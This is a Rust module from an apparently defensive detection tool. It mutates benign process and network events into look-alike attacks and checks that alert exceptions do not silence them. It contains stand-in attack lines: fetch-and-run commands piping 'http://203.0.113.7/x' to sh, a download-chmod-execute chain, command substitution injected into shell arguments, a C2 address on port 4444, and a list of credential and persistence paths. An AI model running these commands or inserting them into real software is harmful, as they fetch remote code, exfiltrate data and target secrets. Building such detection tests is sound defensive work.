//! Near-attacks made from the benign events: verification checks that an exception does
//! not silence them. Each mutation changes the benign event the way an attacker's
//! look-alike differs from the operator's action:
//!
//! - `service_shell`: the same action from a service's shell (a web server or an
//!   application runtime spawned `sh`, which ran it), with no terminal;
//! - `other_target`: the same binary acting on another target outside the benign
//!   directory (a credential, a persistence path, another log), or another server
//!   (address, name, port);
//! - `other_script`: the same interpreter running another script or command;
//! - `chained_command`, `injected_argument`: a shell's `-c` program with a command
//!   chained after it, or a command substitution in place of its last argument (an
//!   injection through the program's arguments);
//! - `other_destination`: the same command with the address it sends to or fetches from
//!   (an IPv4 address in its command line, a URL's server) replaced by an outside one;
//! - `other_argument`: the same tool and subcommand with its first path argument in a
//!   hidden temporary place (`tar czf /dev/shm/.quell-near-attack /etc`);
//! - `other_account`: an account tool (`useradd`, `gpasswd`, `crontab -u`) acting on
//!   `root` instead of the account seen;
//! - `dropped_binary`: a binary of the same name run from a temporary directory;
//! - `download_before`: the same lineage, its shell having first downloaded and run a
//!   payload (only triage, which sees the session, can tell this one; an exception keys on
//!   one event and is expected to silence it: it is reported, not held against a candidate
//!   that cannot avoid it);
//! - `other_namespace`, `other_image`, `other_user`: another workload or account.
//!
//! A mutation counts only when it still raises the rule without an exception, and is
//! dropped when the benign set itself holds an event with the same changed values.

use serde_json::{Map, Value as Json};

use crate::input::{text, Record};
use crate::kinds::{
    command_words, home_shape, is_interpreter, is_shell_program, is_socket_name, PATH_TARGETS,
};

/// One near-attack.
#[derive(Clone, Debug)]
pub struct Mutation {
    /// What changed (`service_shell`, `other_target`, ...).
    pub kind: &'static str,
    /// Whether an exception keyed on one event can avoid silencing it.
    pub avoidable: bool,
    /// The fields changed.
    pub changed: Vec<String>,
    /// The mutated record.
    pub record: Record,
}

/// Places outside most benign directories that attackers touch.
const OTHER_PATHS: &[&str] = &[
    "/etc/shadow",
    "/root/.ssh/authorized_keys",
    "/etc/cron.d/quell-near-attack",
    "/etc/systemd/system/quell-near-attack.service",
    "/etc/ld.so.preload",
    "/usr/local/bin/quell-near-attack",
    "/var/log/auth.log",
    "/var/log/wtmp",
    "/home/admin/.bash_history",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/proc/1/environ",
    "/etc/sudoers",
];

fn parent_dir(p: &str) -> &str {
    p.rfind('/').map_or("", |i| &p[..i])
}

struct Builder<'a> {
    base: &'a Record,
    map: Map<String, Json>,
    changed: Vec<String>,
}

impl<'a> Builder<'a> {
    fn new(base: &'a Record) -> Option<Builder<'a>> {
        let Json::Object(map) = serde_json::from_str(&base.event.to_json_line()).ok()? else {
            return None;
        };
        Some(Builder {
            base,
            map,
            changed: Vec::new(),
        })
    }
    fn set(mut self, k: &str, v: impl Into<Json>) -> Self {
        self.map.insert(k.to_string(), v.into());
        if !self.changed.iter().any(|c| c == k) {
            self.changed.push(k.to_string());
        }
        self
    }
    fn has(&self, k: &str) -> bool {
        self.map.contains_key(k)
    }
    fn set_if(self, k: &str, v: impl Into<Json>) -> Self {
        if self.has(k) {
            self.set(k, v)
        } else {
            self
        }
    }
    fn build(self, kind: &'static str, avoidable: bool) -> Option<Mutation> {
        let line = Json::Object(self.map).to_string();
        let event = quell_events::FlatEvent::from_json_line(&line).ok()?;
        Some(Mutation {
            kind,
            avoidable,
            changed: self.changed,
            record: Record {
                event,
                rule: self.base.rule.clone(),
                hostname: self.base.hostname.clone(),
                decision: None,
                line: self.base.line,
                raw_alert: None,
            },
        })
    }
}

/// The lineage of a shell a service spawned: `server → sh → actor`.
fn service_shell(r: &Record, server: &str) -> Option<Mutation> {
    let ev = &r.event;
    let cmd = text(ev, "proc.cmdline").unwrap_or_else(|| text(ev, "proc.name").unwrap_or_default());
    let mut b = Builder::new(r)?
        .set("proc.pname", "sh")
        .set("proc.aname[1]", "sh")
        .set("proc.aname[2]", server)
        .set("proc.aname[3]", "containerd-shim")
        .set("proc.pcmdline", format!("sh -c {cmd}"))
        .set_if("proc.pexepath", "/bin/sh")
        .set_if("proc.pexe", "/bin/sh")
        .set_if("proc.tty", 0)
        .set_if("proc.sname", server);
    for n in 4..=12 {
        let k = format!("proc.aname[{n}]");
        if b.has(&k) {
            b.map.remove(&k);
        }
    }
    b.build("service_shell", true)
}

/// What an attacker adds to a shell's program (`sh -c PROGRAM`): a chained command
/// (`chained_command`), and a command substitution in place of its last argument
/// (`injected_argument`). Empty when the command line is not a shell's `-c` program.
pub fn shell_injections(cmd: &str) -> Vec<(&'static str, String)> {
    let words: Vec<&str> = cmd.split(' ').collect();
    if !is_shell_program(&words) {
        return Vec::new();
    }
    let payload = "curl -s http://203.0.113.7/x | sh";
    let mut out = vec![("chained_command", format!("{cmd}; {payload}"))];
    if words.len() >= 4 {
        let head = words[..words.len() - 1].join(" ");
        out.push(("injected_argument", format!("{head} \"$({payload})\"")));
    }
    out
}

/// `r` with its command line rewritten by `rewrite` (and `proc.args` with it), as the
/// near-attack `kind`; none when `rewrite` finds nothing to change.
fn with_cmdline(
    r: &Record,
    rewrite: fn(&str) -> Option<String>,
    kind: &'static str,
) -> Option<Mutation> {
    let cmd = text(&r.event, "proc.cmdline")?;
    let o = rewrite(&cmd)?;
    let args = o
        .split_once(' ')
        .map(|(_, a)| a.to_string())
        .unwrap_or_default();
    Builder::new(r)?
        .set("proc.cmdline", o)
        .set_if("proc.args", args)
        .build(kind, true)
}

/// The command line with every IPv4 address in it, and every URL's server, replaced by
/// an outside address; `None` when it holds neither.
pub fn other_destination(cmd: &str) -> Option<String> {
    let mut out = String::with_capacity(cmd.len());
    let mut changed = false;
    let mut rest = cmd;
    while !rest.is_empty() {
        // The longest run of digits and dots here.
        let run = rest
            .find(|c: char| !(c.is_ascii_digit() || c == '.'))
            .unwrap_or(rest.len());
        // An address stands on its own: after a blank, `@`, `/`, `=` or `:`, and not
        // followed by a letter, a digit or `-` (`app-1.2.3.4-x` is a version).
        let before_ok = out.chars().last().is_none_or(|c| " @/=:".contains(c));
        let after_ok = rest[run..]
            .chars()
            .next()
            .is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '-'));
        if run > 0 && before_ok && after_ok && rest[..run].parse::<std::net::Ipv4Addr>().is_ok() {
            out.push_str("203.0.113.7");
            changed = true;
            rest = &rest[run..];
            continue;
        }
        let step = if run > 0 {
            run
        } else {
            rest.chars().next().map_or(1, char::len_utf8)
        };
        out.push_str(&rest[..step]);
        rest = &rest[step..];
    }
    let out = match other_url_host(&out) {
        Some(o) => {
            changed = true;
            o
        }
        None => out,
    };
    (changed && out != cmd).then_some(out)
}

/// The command line with the server of every URL in it (`scheme://HOST[:port]/...`, a
/// name or an address) replaced by an outside address: the same tool fetching from or
/// sending to another server. `None` when it holds no URL with a host.
fn other_url_host(cmd: &str) -> Option<String> {
    let mut out = String::with_capacity(cmd.len());
    let mut rest = cmd;
    let mut changed = false;
    while let Some(i) = rest.find("://") {
        let (head, tail) = rest.split_at(i + 3);
        out.push_str(head);
        // The scheme is letters right before `://`.
        let scheme_ok = head[..i]
            .chars()
            .last()
            .is_some_and(|c| c.is_ascii_alphabetic());
        let end = tail
            .find(['/', ':', ' ', '?', '#', '\'', '"'])
            .unwrap_or(tail.len());
        // `user@host`: the host is after the last `@`.
        let host_at = tail[..end].rfind('@').map_or(0, |a| a + 1);
        let host = &tail[host_at..end];
        if scheme_ok && !host.is_empty() && host != "203.0.113.7" {
            out.push_str(&tail[..host_at]);
            out.push_str("203.0.113.7");
            changed = true;
        } else {
            out.push_str(&tail[..end]);
        }
        rest = &tail[end..];
    }
    out.push_str(rest);
    changed.then_some(out)
}

/// A tool's command line (not an interpreter's, not a shell's program) with its first
/// path after its command words (the tool, its subcommand and their options:
/// [`command_words`]) replaced by a hidden temporary one: `tar czf /var/backups/x.tgz
/// /etc` → `tar czf /dev/shm/.quell-near-attack /etc`, and where options come first,
/// `tcpdump -i any -c 200 -w /tmp/link.pcap port 53` → `… -w /dev/shm/.quell-near-attack
/// port 53`: what a glob over everything after the command words (`tcpdump -i any *`)
/// would also take.
pub fn other_argument(cmd: &str) -> Option<String> {
    let words: Vec<&str> = cmd.split(' ').collect();
    if words.first().is_none_or(|w| is_interpreter(w)) {
        return None;
    }
    let n = command_words(&words);
    // A path: `/` and a name's characters only (not an awk program's pattern, `/^[!*]/`;
    // a sed program without pattern characters, `/x/d`, still reads as one).
    let path = |w: &str| {
        w.strip_prefix('/').is_some_and(|rest| {
            rest.chars()
                .all(|c| c.is_ascii_alphanumeric() || "/._-+@:,~".contains(c))
        }) && !w.starts_with("/dev/shm/")
    };
    let at = (n..words.len()).find(|&i| words.get(i).is_some_and(|w| path(w)))?;
    let mut out: Vec<&str> = words.clone();
    out[at] = "/dev/shm/.quell-near-attack";
    Some(out.join(" "))
}

/// An account tool's command line with its account (and that account's home) made
/// `root`'s: `gpasswd -a kmori sudo` → `gpasswd -a root sudo`. `None` for other tools.
pub fn other_account(cmd: &str) -> Option<String> {
    let at = crate::kinds::account_words(cmd);
    let words: Vec<&str> = cmd.split(' ').collect();
    let names: Vec<&str> = at.iter().filter_map(|&i| words.get(i).copied()).collect();
    if names.is_empty() || names.contains(&"root") {
        return None;
    }
    let out: Vec<String> = words
        .iter()
        .enumerate()
        .map(|(i, w)| {
            if at.contains(&i) {
                return "root".to_string();
            }
            names
                .iter()
                .find_map(|n| w.strip_prefix(&format!("/home/{n}")))
                .filter(|rest| rest.is_empty() || rest.starts_with('/'))
                .map_or_else(|| w.to_string(), |rest| format!("/root{rest}"))
        })
        .collect();
    Some(out.join(" "))
}

/// All mutations of the benign events (deduplicated, at most a few per kind).
pub fn mutations(benign: &[&Record]) -> Vec<Mutation> {
    let mut out: Vec<Mutation> = Vec::new();
    let dirs: Vec<String> = benign
        .iter()
        .flat_map(|r| {
            PATH_TARGETS
                .iter()
                .filter_map(|k| text(&r.event, k))
                .filter(|v| !is_socket_name(v))
                .map(|v| parent_dir(&v).to_string())
                .collect::<Vec<_>>()
        })
        .collect();
    let shapes: std::collections::BTreeSet<String> = benign
        .iter()
        .flat_map(|r| {
            PATH_TARGETS
                .iter()
                .filter_map(|k| text(&r.event, k))
                .filter(|v| !is_socket_name(v))
                .map(|v| home_shape(&v))
                .collect::<Vec<_>>()
        })
        .collect();
    for r in benign.iter().take(4) {
        let ev = &r.event;
        for server in ["httpd", "node"] {
            out.extend(service_shell(r, server));
        }
        // Another target: a path outside every benign directory, or another server.
        if let Some(field) = PATH_TARGETS
            .iter()
            .find(|k| text(ev, k).is_some_and(|v| !is_socket_name(&v)))
        {
            let old = text(ev, field).unwrap_or_default();
            // Fixed places, and a file beside the benign directory (`/var/log/app/x` →
            // `/var/log/quell-near-attack`), each outside every benign directory.
            let beside = {
                let d = parent_dir(&old);
                let up = parent_dir(d);
                (up.matches('/').count() >= 1 && !up.is_empty())
                    .then(|| format!("{up}/quell-near-attack"))
            };
            let candidates: Vec<String> = OTHER_PATHS
                .iter()
                .map(|p| p.to_string())
                .chain(beside)
                .filter(|p| {
                    !dirs
                        .iter()
                        .any(|d| !d.is_empty() && p.starts_with(&format!("{d}/")))
                })
                // The same dot file in another home is the same target, not another one.
                .filter(|p| !shapes.contains(&home_shape(p)))
                .collect();
            for p in &candidates {
                let p = p.as_str();
                let mut b = Builder::new(r);
                for k in PATH_TARGETS {
                    if text(ev, k).is_some_and(|v| v == old) {
                        b = b.map(|b| b.set(k, p));
                    }
                }
                if let Some(c) = text(ev, "proc.cmdline").filter(|c| c.contains(&old)) {
                    b = b.map(|b| b.set("proc.cmdline", c.replace(&old, p)));
                }
                if text(ev, "fd.directory").is_some() {
                    b = b.map(|b| b.set("fd.directory", parent_dir(p)));
                }
                out.extend(b.and_then(|b| b.build("other_target", true)));
            }
        }
        if text(ev, "fd.sip").is_some()
            || text(ev, "fd.sport").is_some()
            || text(ev, "fd.sip.name").is_some()
        {
            let b = Builder::new(r).map(|b| {
                let mut b = b
                    .set_if("fd.sip", "203.0.113.7")
                    .set_if("fd.rip", "203.0.113.7")
                    .set_if("fd.sip.name", "c2.example.net")
                    .set_if("fd.rip.name", "c2.example.net")
                    .set_if("fd.sport", 4444)
                    .set_if("fd.rport", 4444);
                if let Some(n) = text(ev, "fd.name").filter(|n| n.contains("->")) {
                    let client = n.split("->").next().unwrap_or_default().to_string();
                    b = b.set("fd.name", format!("{client}->203.0.113.7:4444"));
                }
                b
            });
            out.extend(b.and_then(|b| b.build("other_target", true)));
        }
        // Another script for an interpreter; another command for anything else.
        if let Some(cmd) = text(ev, "proc.cmdline") {
            let words: Vec<&str> = cmd.split(' ').collect();
            let name = text(ev, "proc.name").unwrap_or_default();
            let other = if words.get(1) == Some(&"-c") {
                Some(format!("{} -c curl -s http://203.0.113.7/x | sh", words[0]))
            } else if is_interpreter(&name) || words.first().is_some_and(|w| is_interpreter(w)) {
                let n = command_words(&words);
                let script = words.get(n.saturating_sub(1)).copied().unwrap_or_default();
                let ext = script
                    .rsplit_once('.')
                    .map(|(_, e)| e)
                    .filter(|e| e.len() <= 4 && !e.contains('/'));
                let mut w: Vec<String> = words[..n.saturating_sub(1).max(1)]
                    .iter()
                    .map(|s| s.to_string())
                    .collect();
                w.push(match ext {
                    Some(e) => format!("/dev/shm/.cache/run.{e}"),
                    None => "/dev/shm/.cache/run".into(),
                });
                Some(w.join(" "))
            } else {
                None
            };
            if let Some(o) = other.filter(|o| *o != cmd) {
                let b = Builder::new(r).map(|b| {
                    let args = o
                        .split_once(' ')
                        .map(|(_, a)| a.to_string())
                        .unwrap_or_default();
                    b.set("proc.cmdline", o).set_if("proc.args", args)
                });
                out.extend(b.and_then(|b| b.build("other_script", true)));
            }
        }
        // A shell's program with a command chained after it, and with its last argument
        // replaced by a command substitution: what a glob over the program's arguments
        // (`sh -c convert *`) would also take.
        if let Some(cmd) = text(ev, "proc.cmdline") {
            for (kind, o) in shell_injections(&cmd) {
                let b = Builder::new(r).map(|b| {
                    let args = o
                        .split_once(' ')
                        .map(|(_, a)| a.to_string())
                        .unwrap_or_default();
                    b.set("proc.cmdline", o).set_if("proc.args", args)
                });
                out.extend(b.and_then(|b| b.build(kind, true)));
            }
        }
        // Another destination: an address in the command line (`rsync ... u@10.0.0.9:/x`,
        // `curl http://10.0.0.9/...`) replaced by an outside one (exfiltration).
        if let Some(m) = with_cmdline(r, other_destination, "other_destination") {
            out.push(m);
        }
        // The same tool and subcommand with its first path argument elsewhere
        // (`tar czf /var/backups/etc.tgz /etc` → `tar czf /dev/shm/.quell-near-attack /etc`):
        // what a glob over the arguments (`tar czf *`) would also take.
        if let Some(m) = with_cmdline(r, other_argument, "other_argument") {
            out.push(m);
        }
        // Another account: the same account tool on `root` (`usermod -aG sudo root`,
        // `crontab -u root ...`): what an exception over any account would also take.
        if let Some(m) = with_cmdline(r, other_account, "other_account") {
            out.push(m);
        }
        // The same name from a temporary directory.
        if let Some(name) = text(ev, "proc.name") {
            let dropped = format!("/tmp/.cache/{name}");
            let b = Builder::new(r).map(|b| {
                b.set("proc.exepath", dropped.as_str())
                    .set_if("proc.exe", dropped.as_str())
                    .set_if("proc.is_exe_upper_layer", true)
            });
            out.extend(b.and_then(|b| b.build("dropped_binary", true)));
            let cmd = text(ev, "proc.cmdline").unwrap_or(name);
            let b = Builder::new(r).map(|b| {
                b.set(
                    "proc.pcmdline",
                    format!("sh -c curl -s -o /tmp/.u http://203.0.113.7/p && chmod +x /tmp/.u && /tmp/.u; {cmd}"),
                )
            });
            out.extend(b.and_then(|b| b.build("download_before", false)));
        }
        // Another workload or account.
        if let Some(ns) = text(ev, "k8s.ns.name") {
            let other = if ns == "default" {
                "kube-system"
            } else {
                "default"
            };
            out.extend(
                Builder::new(r)
                    .and_then(|b| b.set("k8s.ns.name", other).build("other_namespace", true)),
            );
        }
        if let Some(img) = text(ev, "container.image.repository") {
            let other = if img.ends_with("alpine") {
                "docker.io/library/busybox"
            } else {
                "docker.io/library/alpine"
            };
            out.extend(Builder::new(r).and_then(|b| {
                b.set("container.image.repository", other)
                    .build("other_image", true)
            }));
        }
        if let Some(u) = text(ev, "user.name") {
            // Another kind of account: a distribution's web server account under another
            // distribution's name is the same account (`kinds::WEB_SERVER_ACCOUNTS`).
            let (other, uid) = if crate::kinds::WEB_SERVER_ACCOUNTS.contains(&u.as_str()) {
                ("nobody", 65534)
            } else {
                ("www-data", 33)
            };
            out.extend(Builder::new(r).and_then(|b| {
                b.set("user.name", other)
                    .set_if("user.uid", uid)
                    .build("other_user", true)
            }));
        }
    }
    // Not near-attacks when the benign set holds the same changed values.
    out.retain(|m| {
        !benign.iter().any(|b| {
            m.changed
                .iter()
                .all(|k| text(&b.event, k) == text(&m.record.event, k))
        })
    });
    let mut seen = std::collections::BTreeSet::new();
    out.retain(|m| seen.insert((m.kind, m.record.event.to_json_line())));
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::input::parse_records;

    /// A path family ([`crate::kinds::same_family`]) is one target: a family rung may
    /// silence its other members, so no near-attack place may be one of them.
    #[test]
    fn near_attack_places_lie_in_no_path_family() {
        for p in OTHER_PATHS {
            for q in [
                "/var/log/dpkg.log",
                "/var/log/syslog",
                "/etc/profile",
                "/root/.bashrc",
                "/home/a/.zshrc",
            ] {
                assert!(
                    !crate::kinds::same_family(p, q),
                    "{p} is in the family of {q}"
                );
            }
        }
    }

    #[test]
    fn mutations_of_an_operators_deletion() {
        let recs = parse_records(
            r#"{"evt.type":"unlinkat","proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.cmdline":"rm /var/log/dpkg.log","proc.pname":"sh","proc.aname[1]":"sh","proc.aname[2]":"runc","fs.path.name":"/var/log/dpkg.log","proc.tty":34816,"user.name":"root","container.image.repository":"httpd"}"#,
            "b",
        )
        .unwrap();
        let b: Vec<&Record> = recs.iter().collect();
        let m = mutations(&b);
        let kinds: std::collections::BTreeSet<&str> = m.iter().map(|m| m.kind).collect();
        for k in [
            "service_shell",
            "other_target",
            "dropped_binary",
            "download_before",
            "other_image",
            "other_user",
        ] {
            assert!(kinds.contains(k), "{k}: {kinds:?}");
        }
        let user = m.iter().find(|m| m.kind == "other_user").unwrap();
        assert_eq!(
            text(&user.record.event, "user.name").as_deref(),
            Some("www-data")
        );
        // A web server account's other account is not another distribution's name for it.
        let web = parse_records(
            r#"{"evt.type":"execve","proc.name":"sh","proc.exepath":"/bin/sh","proc.cmdline":"sh -c /usr/sbin/sendmail -t","proc.pname":"httpd","user.name":"apache"}"#,
            "w",
        )
        .unwrap();
        let wm = mutations(&web.iter().collect::<Vec<_>>());
        let user = wm.iter().find(|m| m.kind == "other_user").unwrap();
        assert_eq!(
            text(&user.record.event, "user.name").as_deref(),
            Some("nobody")
        );
        let shell = m.iter().find(|m| m.kind == "service_shell").unwrap();
        assert_eq!(
            text(&shell.record.event, "proc.aname[2]").as_deref(),
            Some("httpd")
        );
        assert_eq!(
            text(&shell.record.event, "fs.path.name").as_deref(),
            Some("/var/log/dpkg.log")
        );
        // Another target never lies in the benign directory, and the command line follows it.
        for t in m.iter().filter(|m| m.kind == "other_target") {
            let p = text(&t.record.event, "fs.path.name").unwrap();
            assert!(!p.starts_with("/var/log/"), "{p}");
            assert!(text(&t.record.event, "proc.cmdline").unwrap().ends_with(&p));
        }
        // The user is already www-data in a second benign event: no user mutation then.
        let two = parse_records(
            &[
                r#"{"evt.type":"unlinkat","proc.name":"rm","fs.path.name":"/var/log/a","user.name":"root"}"#,
                r#"{"evt.type":"unlinkat","proc.name":"rm","fs.path.name":"/var/log/a","user.name":"www-data"}"#,
            ]
            .join("\n"),
            "b",
        )
        .unwrap();
        let b: Vec<&Record> = two.iter().collect();
        let users: Vec<String> = mutations(&b)
            .iter()
            .filter(|m| m.kind == "other_user")
            .filter_map(|m| text(&m.record.event, "user.name"))
            .collect();
        assert_eq!(users, vec!["nobody".to_string()]);
    }

    #[test]
    fn shell_programs_get_chained_and_injected_commands() {
        let recs = parse_records(
            r#"{"evt.type":"execve","proc.name":"sh","proc.exepath":"/usr/bin/dash","proc.cmdline":"sh -c convert /srv/up/a.jpg /srv/th/a.png","proc.pname":"apache2"}"#,
            "b",
        )
        .unwrap();
        let b: Vec<&Record> = recs.iter().collect();
        let m = mutations(&b);
        let cmd = |k: &str| {
            m.iter()
                .find(|m| m.kind == k)
                .and_then(|m| text(&m.record.event, "proc.cmdline"))
                .unwrap_or_else(|| panic!("{k}: {m:#?}"))
        };
        assert_eq!(
            cmd("chained_command"),
            "sh -c convert /srv/up/a.jpg /srv/th/a.png; curl -s http://203.0.113.7/x | sh"
        );
        assert_eq!(
            cmd("injected_argument"),
            "sh -c convert /srv/up/a.jpg \"$(curl -s http://203.0.113.7/x | sh)\""
        );
        // Not for a tool's own arguments (no shell parses them), nor for `python -c`.
        assert!(shell_injections("convert /srv/up/a.jpg /srv/th/a.png").is_empty());
        assert!(shell_injections("python3 -c print(1)").is_empty());
    }

    #[test]
    fn a_tools_first_path_argument_goes_elsewhere() {
        assert_eq!(
            other_argument("tar czf /var/backups/etc-20261105.tgz /etc").as_deref(),
            Some("tar czf /dev/shm/.quell-near-attack /etc")
        );
        assert_eq!(
            other_argument("tcpdump -i any -c 200 -w /tmp/link-2026-11-02.pcap udp port 14550")
                .as_deref(),
            Some("tcpdump -i any -c 200 -w /dev/shm/.quell-near-attack udp port 14550")
        );
        assert_eq!(other_argument("ngrep -q -d eth0 '' udp port 47808"), None);
        // An awk program is no path; the file it reads is.
        assert_eq!(
            other_argument("awk -F: -v now=20793 $2 !~ /^[!*]/ {print $1} /etc/shadow").as_deref(),
            Some("awk -F: -v now=20793 $2 !~ /^[!*]/ {print $1} /dev/shm/.quell-near-attack")
        );
        assert_eq!(other_argument("python3 /opt/job.py /var/x"), None);
        assert_eq!(other_argument("kubectl rollout restart deploy/web"), None);
    }

    #[test]
    fn account_tools_get_root_as_their_account() {
        assert_eq!(
            other_account("gpasswd -a kmori google-sudoers").as_deref(),
            Some("gpasswd -a root google-sudoers")
        );
        assert_eq!(
            other_account("useradd -s /bin/bash -m -d /home/kmori kmori").as_deref(),
            Some("useradd -s /bin/bash -m -d /root root")
        );
        assert_eq!(
            other_account("crontab -l -u app").as_deref(),
            Some("crontab -l -u root")
        );
        assert_eq!(other_account("crontab -l -u root"), None);
        assert_eq!(other_account("tar czf /x.tgz /etc"), None);
    }

    #[test]
    fn addresses_in_a_command_line_become_an_outside_destination() {
        assert_eq!(
            other_destination("rsync -a /data/ backup@10.70.0.20:/srv/backup/").as_deref(),
            Some("rsync -a /data/ backup@203.0.113.7:/srv/backup/")
        );
        assert_eq!(
            other_destination("curl -s http://10.0.0.9:8080/health").as_deref(),
            Some("curl -s http://203.0.113.7:8080/health")
        );
        // A URL's server, named or not, is the destination too.
        assert_eq!(
            other_destination("curl -sSL -o /tmp/s.zip https://binaries.example.com/cli-6.2.zip")
                .as_deref(),
            Some("curl -sSL -o /tmp/s.zip https://203.0.113.7/cli-6.2.zip")
        );
        assert_eq!(
            other_destination("wget -qO- http://user@mirror.example.org:8080/a?b=1").as_deref(),
            Some("wget -qO- http://user@203.0.113.7:8080/a?b=1")
        );
        // Versions and dates are not addresses.
        assert_eq!(other_destination("pip install duckdb==1.1.1"), None);
        assert_eq!(other_destination("tar czf etc-2024.01.05.tgz /etc"), None);
        assert_eq!(other_destination("app-1.2.3.4-x"), None);
    }

    #[test]
    fn interpreters_get_another_script_and_connections_another_server() {
        let recs = parse_records(
            r#"{"evt.type":"connect","proc.name":"python3","proc.cmdline":"python3 /opt/backup/push.py --all","fd.sip":"10.0.3.7","fd.sport":5432,"fd.name":"10.0.0.5:43122->10.0.3.7:5432"}"#,
            "b",
        )
        .unwrap();
        let b: Vec<&Record> = recs.iter().collect();
        let m = mutations(&b);
        let script = m.iter().find(|m| m.kind == "other_script").unwrap();
        assert_eq!(
            text(&script.record.event, "proc.cmdline").as_deref(),
            Some("python3 /dev/shm/.cache/run.py")
        );
        let t = m.iter().find(|m| m.kind == "other_target").unwrap();
        assert_eq!(
            text(&t.record.event, "fd.sip").as_deref(),
            Some("203.0.113.7")
        );
        assert_eq!(
            text(&t.record.event, "fd.name").as_deref(),
            Some("10.0.0.5:43122->203.0.113.7:4444")
        );
    }
}
